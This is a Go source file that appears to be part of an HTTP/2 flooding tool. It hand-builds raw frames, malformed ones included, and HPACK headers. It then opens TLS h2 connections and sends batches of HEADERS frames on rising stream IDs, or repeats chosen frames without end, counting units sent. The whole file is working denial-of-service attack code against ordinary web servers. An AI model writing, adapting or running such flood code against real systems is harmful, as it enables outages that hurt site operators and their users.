package main

import (
	"encoding/binary"
	"net"
)

// Frames of HTTP/2 as bytes (RFC 9113, section 6), good and bad ones.

const (
	typeData, typeHeaders, typePriority, typeReset, typeSettings = 0, 1, 2, 3, 4
	typePing, typeWindow, typeContinuation, typeUnknown          = 6, 8, 9, 0xfa
	endStream, endHeaders                                        = 1, 4
)

func frame(out []byte, kind, flags byte, stream uint32, payload ...byte) []byte {
	out = append(out, byte(len(payload)>>16), byte(len(payload)>>8), byte(len(payload)), kind, flags)
	out = binary.BigEndian.AppendUint32(out, stream)
	return append(out, payload...)
}

func word(value uint32) []byte { return binary.BigEndian.AppendUint32(nil, value) }

// A length or an index in N bits (RFC 7541, section 5.1).
func integer(out []byte, first byte, bits, value int) []byte {
	limit := 1<<bits - 1
	if value < limit {
		return append(out, first|byte(value))
	}
	out = append(out, first|byte(limit))
	for value -= limit; value >= 128; value >>= 7 {
		out = append(out, byte(value)|128)
	}
	return append(out, byte(value))
}

func text(out []byte, value string) []byte { return append(integer(out, 0, 7, len(value)), value...) }

// GET or POST of a path; nothing of it enters the table.
func head(method byte, path string) []byte {
	block := text([]byte{method, 0x87, 0x04}, path)
	return text(append(block, 0x01), name)
}

const get, post = 0x82, 0x83

var preface = frame([]byte("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"), typeSettings, 0, 0)

// A connection that speaks HTTP/2, with its preface behind it.
func (f *flood) http2(first []byte) (net.Conn, error) {
	conn, err := f.tls("h2")
	if err != nil {
		return nil, err
	}
	if _, err := conn.Write(first); err != nil {
		conn.Close()
		return nil, err
	}
	return conn, nil
}

const batch = 16 << 10 // bytes: a record is full

// Requests one after the other, each followed by what `after` makes for its stream.
func streams(path string, flags byte, after func(out []byte, stream uint32) []byte) func(f *flood) {
	method := byte(get)
	if flags&endStream == 0 {
		method = post
	}
	block := head(method, path)
	return func(f *flood) {
		conn, err := f.http2(preface)
		if err != nil {
			return
		}
		defer conn.Close()
		go f.drain(conn)
		for stream := uint32(1); !f.over() && stream < 1<<30; {
			var out []byte
			units := 0
			for ; len(out) < batch; units++ {
				out = frame(out, typeHeaders, endHeaders|flags, stream, block...)
				out = after(out, stream)
				stream += 2
			}
			if _, err := conn.Write(out); err != nil {
				return
			}
			f.units.Add(int64(units))
		}
	}
}

// The same frames again and again, after a beginning.
func frames(first, again []byte, reads bool) func(f *flood) {
	var out []byte
	units := 0
	for ; len(out) < batch; units++ {
		out = append(out, again...)
	}
	return func(f *flood) {
		conn, err := f.http2(append(append([]byte(nil), preface...), first...))
		if err != nil {
			return
		}
		defer conn.Close()
		if reads {
			go f.drain(conn)
		}
		f.repeat(conn, out, units)
		if !reads && !f.over() {
			f.ended.Add(1)
		}
	}
}
